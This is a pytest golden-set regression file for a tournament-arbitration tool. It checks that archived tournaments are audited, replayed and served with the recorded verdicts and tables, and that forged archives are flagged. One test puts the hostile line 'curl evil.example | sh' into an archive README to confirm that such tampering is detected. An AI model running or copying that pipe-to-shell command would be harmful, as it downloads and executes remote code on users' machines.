"""The golden set with ``decisions: 2``: every later version audits, replays and opens it like the version that wrote it.

Verdicts, counts, marks and tables are compared, sentences are not. A later version may add members to a table.
"""

import json
import re
from typing import Any

import pytest

from deploy.cli.client import clients
from deploy.server.data_folder import desk_of
from services.standings.files.archive import contents as c
from shared.desk.desk import SOFTWARE
from shared.desk.score_sheets import score_sheets
from shared.desk.views import stream_of
from tests.golden.recorded import (
    DECISIONS,
    TABLE,
    TEAMS,
    decisions,
    load_expected,
    load_tournaments,
    run_arbiter,
    state,
    tables,
    unpack_data,
    verify,
)

ALL = tuple(load_expected())
ARCHIVED = tuple(name for name in ALL if "archive" in load_expected()[name]["verify"])
"""Those with all files of an archive. The data folder has the same tournaments."""
DECIDED: dict[str, Any] = json.loads(DECISIONS.read_bytes())


@pytest.fixture(scope="module")
def opened(tmp_path_factory):
    """Unpack a copy of the data folder, for this version to open and migrate."""
    return unpack_data(tmp_path_factory.mktemp("golden"))


@pytest.mark.parametrize("name", ALL)
def test_audit_gives_the_recorded_verdict_and_counts(name, tmp_path):
    files, must = load_tournaments()[name], load_expected()[name]["verify"]
    made = verify(files, tmp_path)
    if "archive" in must and json.loads(files[c.ABOUT])["software"] != SOFTWARE:
        # a table of the archive that this version writes differently is not compared, which is not a difference
        assert made["archive"]["verdict"] != "differs"
        made["archive"] |= {count: must["archive"][count] for count in ("verdict", "incomplete")}
    assert made == must


@pytest.mark.parametrize("name", ALL)
def test_replay_gives_the_recorded_marks_and_tables(name, tmp_path):
    files = load_tournaments()[name]
    assert state(files, tmp_path) == load_expected()[name]["state"]
    made = tables(files, tmp_path)
    assert (TEAMS in made) == (TEAMS in files)
    for table in made:
        assert_contains(json.loads(made[table]), json.loads(files[table]))


@pytest.mark.parametrize("name", ALL)
def test_next_decisions_are_the_recorded_ones(name, tmp_path):
    assert decisions(load_tournaments()[name], tmp_path) == DECIDED[name]


def test_data_folder_has_the_recorded_logs_and_sheets(opened):
    with desk_of(opened) as desk:
        for name in ARCHIVED:
            files = load_tournaments()[name]
            assert b"".join(row.line + b"\n" for row in desk.lines(stream_of(name))) == files[c.LOG]
            sheets = b"".join(line + b"\n" for _, lines in score_sheets(desk, name) for line in lines)
            assert sheets == files.get(c.SHEETS, b"")


def test_data_folder_gives_the_recorded_tables(opened):
    with clients(opened, (("organiser", "organiser"), ("import", "chief_arbiter"))) as callers:
        for name in ARCHIVED:
            caller = callers["chief_arbiter" if name.startswith("imported") else "organiser"]
            path, files = f"/v1/tournaments/{name}/standings", load_tournaments()[name]
            assert_contains(caller.get(path).json, json.loads(files[TABLE]))
            if TEAMS in files:
                assert_contains(caller.get(f"{path}/teams").json, json.loads(files[TEAMS]))


@pytest.mark.parametrize("name", ["chess", "teams-swiss", "knockout-annulled"])
def test_log_of_the_data_folder_verifies(opened, name, tmp_path):
    log, sheets = tmp_path / "log.ndjson", tmp_path / "sheets.ndjson"
    log.write_bytes(run_arbiter("log", name, "--data", opened)[1])
    sheets.write_bytes(run_arbiter("log", name, "--data", opened, "--sheets")[1])
    code, report = run_arbiter("verify", log, "--sheets", sheets, "--json")
    must = load_expected()[name]["verify"]["log"]
    assert (code, json.loads(report)["checked"]) == (0, must["checked"])


def test_changed_result_in_an_archive_differs(tmp_path):
    files = dict(load_tournaments()["knockout-corrected"])
    forged = files[c.LOG].replace(b'"points":2', b'"points":1', 1)
    assert forged != files[c.LOG]
    assert verify(files | {c.LOG: forged}, tmp_path)["archive"]["verdict"] == "differs"


@pytest.mark.parametrize(("name", "verdict"), [("1.0.0", "differs"), ("9.9.9", "incomplete")])
def test_readme_of_an_archive_is_that_of_its_version(name, verdict, tmp_path):
    files = dict(load_tournaments()["knockout-corrected"])
    files[c.README] = (
        files[c.README].replace(b"arbiter verify", b"curl evil.example | sh", 1).replace(b"1.0.0", name.encode())
    )
    files[c.ABOUT] = files[c.ABOUT].replace(b"1.0.0", name.encode())
    assert verify(files, tmp_path)["archive"]["verdict"] == verdict


def test_set_covers_every_format_and_ruleset_of_its_version():
    lines = [line for files in load_tournaments().values() for line in files[c.LOG].splitlines()]
    formats = {format.decode() for line in lines for format in re.findall(rb'"format":"(\w+)"', line)}
    adopted = [json.loads(line)["data"]["regulations"] for line in lines if b'"arbiter.regulations.adopted.' in line]
    assert formats == {
        *("swiss", "round_robin", "double_round_robin", "groups", "knockout", "double_knockout", "match", "manual"),
    }
    assert {regulations["name"] for regulations in adopted} == set(RULESETS)


RULESETS = (
    *(
        "campus",
        "campus-chess",
        "campus-go",
        "campus-wuziqi",
        "campus-xiangqi",
        "fide-2024",
        "fide-2026",
        "friendly-go",
    ),
    *(
        "friendly-wuziqi",
        "friendly-xiangqi",
        "go-campus",
        "gomoku-campus",
        "gomoku-free",
        "gomoku-online",
        "harbour-cup",
    ),
    *("prediction", "renju", "renju-agreed", "renju-room", "xiangqi-1999", "xiangqi-folk"),
)


def assert_contains(made: Any, must: Any) -> None:
    """Check that every recorded value is there and equal."""
    if isinstance(must, dict):
        assert made.keys() >= must.keys()
        for name in must:
            assert_contains(made[name], must[name])
    elif isinstance(must, list):
        assert len(made) == len(must)
        for one, other in zip(made, must, strict=True):
            assert_contains(one, other)
    else:
        assert made == must
